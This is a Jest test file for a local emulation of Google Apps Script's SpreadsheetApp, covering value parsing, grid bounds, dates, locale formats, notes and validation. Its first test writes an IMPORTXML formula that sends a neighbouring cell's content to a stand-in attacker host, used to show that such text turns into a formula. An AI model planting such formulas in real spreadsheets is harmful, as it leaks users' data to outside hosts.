// Fidelity of the local SpreadsheetApp where the product depends on it: value parsing (formulas, numbers,
// plain text), shape errors, grid bounds, dates, blanks, formats and display values.
import { LocalSpreadsheet } from '../../local/gas/spreadsheet';

function fresh(opts: ConstructorParameters<typeof LocalSpreadsheet>[0] = {}) {
  const ss = new LocalSpreadsheet({ sheets: ['S'], ...opts });
  return { ss, sheet: ss.sheet('S') };
}

describe('values written with setValue(s)', () => {
  it("turns a string starting with '=' into a formula; getValues gives a formula result, not the text", () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1:B1');
    r.setValues([['=IMPORTXML("http://evil.example/?q="&A2,"//a")', 'plain']]);
    expect(r.getFormulas()).toEqual([['=IMPORTXML("http://evil.example/?q="&A2,"//a")', '']]);
    expect(r.getValues()[0][0]).not.toBe('=IMPORTXML("http://evil.example/?q="&A2,"//a")');
    expect(r.getValues()[0][0]).toBe('#NAME?');
    expect(r.getValues()[0][1]).toBe('plain');
  });

  it('keeps every string verbatim in a plain-text (@) cell, formulas and numbers included', () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1:E1');
    r.setNumberFormat('@');
    const texts = ['=HYPERLINK("x")', '+1', '-5', '007', "'quoted"];
    r.setValues([texts]);
    expect(r.getValues()).toEqual([texts]);
    expect(r.getFormulas()).toEqual([['', '', '', '', '']]);
  });

  it('the format must come first: setting @ after a formula was written does not undo it', () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1');
    r.setValue('=1+1');
    r.setNumberFormat('@');
    expect(r.getFormula()).toBe('=1+1');
  });

  it('parses number-like strings into numbers (losing leading zeros and long digit strings)', () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1:G1');
    r.setValues([['123', '+1', '-5', '1.5', '007', '1e3', '577000123456789012345']]);
    const [v] = r.getValues();
    expect(v.slice(0, 6)).toEqual([123, 1, -5, 1.5, 7, 1000]);
    expect(typeof v[6]).toBe('number');
    expect(String(v[6])).not.toBe('577000123456789012345');
  });

  it("leaves other strings alone ('@x', 'Rp 150.000', '12a', ' ') and drops a leading apostrophe", () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1:E1');
    r.setValues([['@x', 'Rp 150.000', '12a', ' ', "'=SUM(1)"]]);
    expect(r.getValues()).toEqual([['@x', 'Rp 150.000', '12a', ' ', '=SUM(1)']]);
    expect(r.getFormulas()).toEqual([['', '', '', '', '']]);
  });

  it('stores numbers, booleans and blanks; null/undefined/"" are blank', () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1:E1');
    r.setValues([[42, true, null, undefined, '']]);
    expect(r.getValues()).toEqual([[42, true, '', '', '']]);
    expect(sheet.getLastColumn()).toBe(2);
  });

  it('setValue on a multi-cell range fills every cell; getValue reads the top-left cell', () => {
    const { sheet } = fresh();
    sheet.getRange('B2:C3').setValue('x');
    expect(sheet.getRange('B2:C3').getValues()).toEqual([
      ['x', 'x'],
      ['x', 'x'],
    ]);
    expect(sheet.getRange('B2:C3').getValue()).toBe('x');
  });

  it('overwriting a formula with a value removes the formula', () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1');
    r.setValue('=NOW()');
    r.setValue(5);
    expect(r.getFormula()).toBe('');
    expect(r.getValue()).toBe(5);
  });
});

describe('shape errors (Apps Script wording)', () => {
  it('rejects too few or too many rows', () => {
    const { sheet } = fresh();
    expect(() => sheet.getRange(1, 1, 2, 2).setValues([[1, 2]])).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expect(() =>
      sheet.getRange(1, 1, 1, 2).setValues([
        [1, 2],
        [3, 4],
        [5, 6],
      ]),
    ).toThrow('The data has 3 but the range has 1.');
  });

  it('rejects a row of the wrong width, wherever it is', () => {
    const { sheet } = fresh();
    expect(() => sheet.getRange(1, 1, 3, 2).setValues([[1, 2], [3, 4], [5]])).toThrow(
      'The number of columns in the data does not match the number of columns in the range. The data has 1 but the range has 2.',
    );
    expect(sheet.getLastRow()).toBe(0); // nothing was written
  });

  it('rejects a 1-D array and applies the same rule to formats, colours and weights', () => {
    const { sheet } = fresh();
    const r = sheet.getRange(1, 1, 1, 2);
    expect(() => r.setValues([1, 2] as unknown as unknown[][])).toThrow(/don't match the method signature/);
    expect(() => r.setNumberFormats([['@']])).toThrow('The data has 1 but the range has 2.');
    expect(() => r.setBackgrounds([['#ff0000']])).toThrow('The data has 1 but the range has 2.');
    expect(() => r.setFontColors([['#ff0000', '#ff0000', '#ff0000']])).toThrow(
      'The data has 3 but the range has 2.',
    );
    expect(() => r.setFontWeights([])).toThrow('The data has 0 but the range has 1.');
  });
});

describe('grid bounds', () => {
  it('a new sheet is 1000 × 26; ranges outside it throw, as in Sheets', () => {
    const { ss, sheet } = fresh();
    expect([sheet.getMaxRows(), sheet.getMaxColumns()]).toEqual([1000, 26]);
    expect(() => sheet.getRange(1000, 1, 2, 1)).toThrow(
      'The coordinates of the range are outside the dimensions of the sheet.',
    );
    expect(() => sheet.getRange(1, 27)).toThrow('outside the dimensions');
    expect(() => sheet.getRange(0, 1)).toThrow('The starting row of the range is too small.');
    expect(() => sheet.getRange(1, 1, 0, 1)).toThrow('The number of rows in the range must be at least 1.');
    expect(() => sheet.getRange(1.5, 1)).toThrow("Cannot convert '1.5' to int.");
    expect(() => ss.insertSheet('T').getRange('A1:A1001')).toThrow('outside the dimensions');
  });

  it('insertRowsAfter grows the grid; appendRow grows it by itself', () => {
    const { sheet } = fresh();
    sheet.insertRowsAfter(sheet.getMaxRows(), 500);
    sheet.getRange(1500, 1).setValue('last');
    expect(sheet.getLastRow()).toBe(1500);
    sheet.appendRow(['appended', 1]);
    expect(sheet.getMaxRows()).toBe(1501);
    expect(sheet.getRange(1501, 1, 1, 2).getValues()).toEqual([['appended', 1]]);
  });

  it('reading past the last row gives blanks', () => {
    const { sheet } = fresh();
    sheet.getRange('A1:B2').setValues([
      [1, 2],
      [3, 4],
    ]);
    expect(sheet.getRange('A2:C4').getValues()).toEqual([
      [3, 4, ''],
      ['', '', ''],
      ['', '', ''],
    ]);
  });

  it('A1 notation: whole columns, open-ended ranges, sheet prefixes', () => {
    const { ss, sheet } = fresh();
    expect(sheet.getRange('B:C').getA1Notation()).toBe('B1:C1000');
    expect(sheet.getRange('A2:C').getNumRows()).toBe(999);
    expect(sheet.getRange('2:3').getNumColumns()).toBe(26);
    expect(sheet.getRange('$B$2').getA1Notation()).toBe('B2');
    expect(ss.getRange("'S'!C3:D4").getA1Notation()).toBe('C3:D4');
    expect(() => sheet.getRange('nonsense!!')).toThrow('Range not found');
    expect(() => sheet.getRange('Other!A1')).toThrow('Range not found');
  });
});

describe('dates', () => {
  it('round-trip as the same instant, as a copy (mutating the caller’s Date changes nothing)', () => {
    const { sheet } = fresh();
    const d = new Date('2024-05-01T06:45:00.000Z');
    const r = sheet.getRange('A1');
    r.setValue(d);
    d.setFullYear(1999);
    const back = r.getValue() as Date;
    expect(back).toBeInstanceOf(Date);
    expect(back.toISOString()).toBe('2024-05-01T06:45:00.000Z');
    (back as Date).setFullYear(2000);
    expect((r.getValue() as Date).toISOString()).toBe('2024-05-01T06:45:00.000Z');
  });

  it('a Date in an automatic cell gets a date-time format and displays in the spreadsheet time zone', () => {
    const { sheet } = fresh({ timeZone: 'Asia/Jakarta', locale: 'id_ID' });
    const r = sheet.getRange('A1');
    r.setValue(new Date('2024-05-01T06:45:00Z'));
    expect(r.getNumberFormat()).toBe('dd/MM/yyyy HH:mm:ss');
    expect(r.getDisplayValue()).toBe('01/05/2024 13:45:00');
    r.setNumberFormat('yyyy-mm-dd hh:mm');
    expect(r.getDisplayValue()).toBe('2024-05-01 13:45');
  });

  it('the number format decides the type: a number in a date cell reads as a Date, a Date in a number cell as a serial', () => {
    const { sheet } = fresh({ timeZone: 'Asia/Jakarta' });
    const a = sheet.getRange('A1');
    a.setNumberFormat('yyyy-mm-dd');
    a.setValue(45413); // 2024-05-01 as a serial
    expect(a.getValue()).toBeInstanceOf(Date);
    expect((a.getValue() as Date).toISOString()).toBe('2024-04-30T17:00:00.000Z'); // midnight in Jakarta
    const b = sheet.getRange('B1');
    b.setValue(new Date('2024-04-30T17:00:00Z'));
    b.setNumberFormat('0.00');
    expect(b.getValue()).toBe(45413);
    expect(b.getDisplayValue()).toBe('45413,00'); // id_ID decimal comma
  });

  it('changing the spreadsheet time zone keeps wall-clock times (the instants move), as Sheets does', () => {
    const { ss, sheet } = fresh({ timeZone: 'Asia/Jakarta' });
    const r = sheet.getRange('A1');
    r.setValue(new Date('2024-05-01T06:45:00Z')); // 13:45 in Jakarta
    const shown = r.getDisplayValue();
    ss.setSpreadsheetTimeZone('UTC');
    expect(r.getDisplayValue()).toBe(shown);
    expect((r.getValue() as Date).toISOString()).toBe('2024-05-01T13:45:00.000Z');
  });
});

describe('formats, colours and display values', () => {
  it('reports Sheets defaults for untouched cells', () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1:B1');
    expect(r.getNumberFormats()).toEqual([['0.###############', '0.###############']]);
    expect(r.getBackgrounds()).toEqual([['#ffffff', '#ffffff']]);
    expect(r.getFontColors()).toEqual([['#000000', '#000000']]);
    expect(r.getFontWeights()).toEqual([['normal', 'normal']]);
  });

  it('normalises colours, resets with null, and refuses nonsense', () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1:C1');
    r.setBackgrounds([['#ABC', 'red', '#00FF7f']]);
    expect(r.getBackgrounds()).toEqual([['#aabbcc', '#ff0000', '#00ff7f']]);
    r.setBackground(null);
    expect(r.getBackground()).toBe('#ffffff');
    expect(() => r.setFontColor('not a colour')).toThrow(/Invalid color/);
    r.setFontWeights([['bold', 'normal', null]]);
    expect(r.getFontWeights()).toEqual([['bold', 'normal', 'normal']]);
    expect(() => r.setFontWeight('heavy')).toThrow(/fontWeight/);
  });

  it('displays numbers with the locale’s separators and the format’s literals', () => {
    const id = fresh({ locale: 'id_ID' }).sheet;
    const en = fresh({ locale: 'en_US' }).sheet;
    for (const s of [id, en]) {
      const r = s.getRange('A1:E1');
      r.setValues([[150000, 1234.5, 0.256, -42, 1.5]]);
      r.setNumberFormats([['"Rp"#,##0', '#,##0.00', '0.0%', '0', '0.##']]);
    }
    expect(id.getRange('A1:E1').getDisplayValues()).toEqual([
      ['Rp150.000', '1.234,50', '25,6%', '-42', '1,5'],
    ]);
    expect(en.getRange('A1:E1').getDisplayValues()).toEqual([
      ['Rp150,000', '1,234.50', '25.6%', '-42', '1.5'],
    ]);
  });

  it('displays booleans, text and formulas', () => {
    const { sheet } = fresh();
    sheet.getRange('A1:C1').setValues([[true, 'teks', '=A1']]);
    expect(sheet.getRange('A1:C1').getDisplayValues()).toEqual([['TRUE', 'teks', '#NAME?']]);
  });

  it('clearContent keeps formats; clearFormat keeps values; clear drops both', () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1');
    r.setNumberFormat('@').setBackground('#ff0000').setValue('x');
    r.clearContent();
    expect([r.getValue(), r.getNumberFormat(), r.getBackground()]).toEqual(['', '@', '#ff0000']);
    r.setValue('y');
    r.clearFormat();
    expect([r.getValue(), r.getNumberFormat(), r.getBackground()]).toEqual([
      'y',
      '0.###############',
      '#ffffff',
    ]);
    r.setBackground('#00ff00');
    r.clear();
    expect([r.getValue(), r.getBackground()]).toEqual(['', '#ffffff']);
  });
});

describe('notes', () => {
  it('setNote/setNotes write plain text; getNote reads the top-left cell; "" and null remove a note', () => {
    const { sheet } = fresh();
    const r = sheet.getRange('A1:C1');
    expect(r.getNotes()).toEqual([['', '', '']]);
    r.setNotes([['satu', null, 'tiga']]);
    expect(r.getNotes()).toEqual([['satu', '', 'tiga']]);
    expect(r.getNote()).toBe('satu');
    sheet.getRange('C1').setNote('');
    sheet.getRange('B2:C2').setNote('sama');
    expect(sheet.getRange('A1:C2').getNotes()).toEqual([
      ['satu', '', ''],
      ['', 'sama', 'sama'],
    ]);
    sheet.getRange('A1:C2').clearNote();
    expect(sheet.getRange('A1:C2').getNotes()).toEqual([
      ['', '', ''],
      ['', '', ''],
    ]);
  });

  it('refuses a grid of the wrong shape, as setValues does', () => {
    const { sheet } = fresh();
    expect(() => sheet.getRange('A1:B1').setNotes([['x']])).toThrow(/number of columns/);
  });

  it('a note is not content: values and formats cleared keep it, and it moves with its row', () => {
    const { sheet } = fresh();
    sheet.getRange('A2').setValue('b');
    sheet.getRange('A1').setValue('a');
    sheet.getRange('A2').setNote('note of b');
    sheet.getRange('A1:A2').clear();
    expect(sheet.getRange('A2').getNote()).toBe('note of b');
    expect(sheet.getLastRow()).toBe(0);
    sheet.insertRowsBefore(1, 2);
    expect(sheet.getRange('A4').getNote()).toBe('note of b');
    sheet.deleteRows(1, 3);
    expect(sheet.getRange('A1').getNote()).toBe('note of b');
    sheet.getRange('A1:A2').setValues([['z'], ['a']]);
    sheet.getRange('A1:A2').sort(1);
    expect(sheet.getRange('A1:A2').getNotes()).toEqual([[''], ['note of b']]);
  });
});

describe('data validation', () => {
  it('insertCheckboxes sets a CHECKBOX rule on every cell and every value to false', () => {
    const { sheet } = fresh();
    sheet.getRange('A1').setValue('x');
    const r = sheet.getRange('A1:B2');
    r.insertCheckboxes();
    expect(r.getValues()).toEqual([
      [false, false],
      [false, false],
    ]);
    expect(r.getDataValidation()!.getCriteriaType()).toBe('CHECKBOX');
    expect(
      r
        .getDataValidations()
        .flat()
        .every((v) => v?.getCriteriaType() === 'CHECKBOX'),
    ).toBe(true);
  });

  it('a cell without a rule reads null; setDataValidations copies rules cell by cell; null removes one', () => {
    const { sheet } = fresh();
    expect(sheet.getRange('A1:B1').getDataValidations()).toEqual([[null, null]]);
    sheet.getRange('A1').insertCheckboxes();
    const rule = sheet.getRange('A1').getDataValidation();
    sheet.getRange('C1:D1').setDataValidations([[null, rule]]);
    expect(sheet.getRange('C1:D1').getDataValidations()).toEqual([[null, rule]]);
    sheet.getRange('D1').setDataValidation(null);
    expect(sheet.getRange('D1').getDataValidation()).toBeNull();
    expect(() => sheet.getRange('C1:D1').setDataValidations([[null]])).toThrow();
  });

  it('a rule moves with its row (rows inserted above, a sort)', () => {
    const { sheet } = fresh();
    sheet.getRange('A1:B2').setValues([
      ['b', ''],
      ['a', ''],
    ]);
    sheet.getRange('B1').insertCheckboxes();
    sheet.insertRowsBefore(1, 1);
    expect(sheet.getRange('B2').getDataValidation()?.getCriteriaType()).toBe('CHECKBOX');
    sheet.getRange('A2:B3').sort(1);
    expect(sheet.getRange('B3').getDataValidation()?.getCriteriaType()).toBe('CHECKBOX');
    expect(sheet.getRange('B2').getDataValidation()).toBeNull();
  });
});

// Sheet.appendRow, per its reference: "Appends a row to the bottom of the current data region in the sheet.
// If a cell's content begins with =, it's interpreted as a formula." Returns the sheet, for chaining.
describe('appendRow', () => {
  it('writes below the last row with content in any column, from column A, and returns the sheet', () => {
    const { sheet } = fresh();
    sheet.getRange('A1:B1').setValues([['h1', 'h2']]);
    sheet.getRange('D4').setValue('a note of the seller, far right');
    expect(sheet.appendRow(['x', 'y'])).toBe(sheet);
    expect(sheet.getRange('A5:D5').getValues()).toEqual([['x', 'y', '', '']]);
    expect(
      sheet
        .getRange('A2:B4')
        .getValues()
        .flat()
        .every((v) => v === ''),
    ).toBe(true);
  });

  it("parses strings as typed, as setValues does: '=' a formula, a number-like string a number, an apostrophe text", () => {
    const { sheet } = fresh({ locale: 'id_ID' });
    sheet.appendRow(['=1+1', '007', "'007", 'Budi 88', '']);
    const r = sheet.getRange('A1:E1');
    expect(r.getFormulas()[0][0]).toBe('=1+1'); // (the runtime does not evaluate formulas)
    expect(r.getValues()[0].slice(1)).toEqual([7, '007', 'Budi 88', '']);
  });

  it('writes plain text verbatim into cells formatted as plain text (the column formatted beforehand)', () => {
    const { sheet } = fresh();
    sheet.getRange('A1:A10').setNumberFormat('@');
    sheet.getRange('A1').setValue('h');
    sheet.appendRow(['007']);
    expect(sheet.getRange('A2').getValue()).toBe('007');
  });

  it('an empty sheet gets the row in row 1; a Date stays a date', () => {
    const { sheet } = fresh();
    const at = new Date(Date.UTC(2024, 5, 30, 3));
    sheet.appendRow(['a', at]);
    expect(sheet.getLastRow()).toBe(1);
    expect((sheet.getRange('B1').getValue() as Date).getTime()).toBe(at.getTime());
  });
});
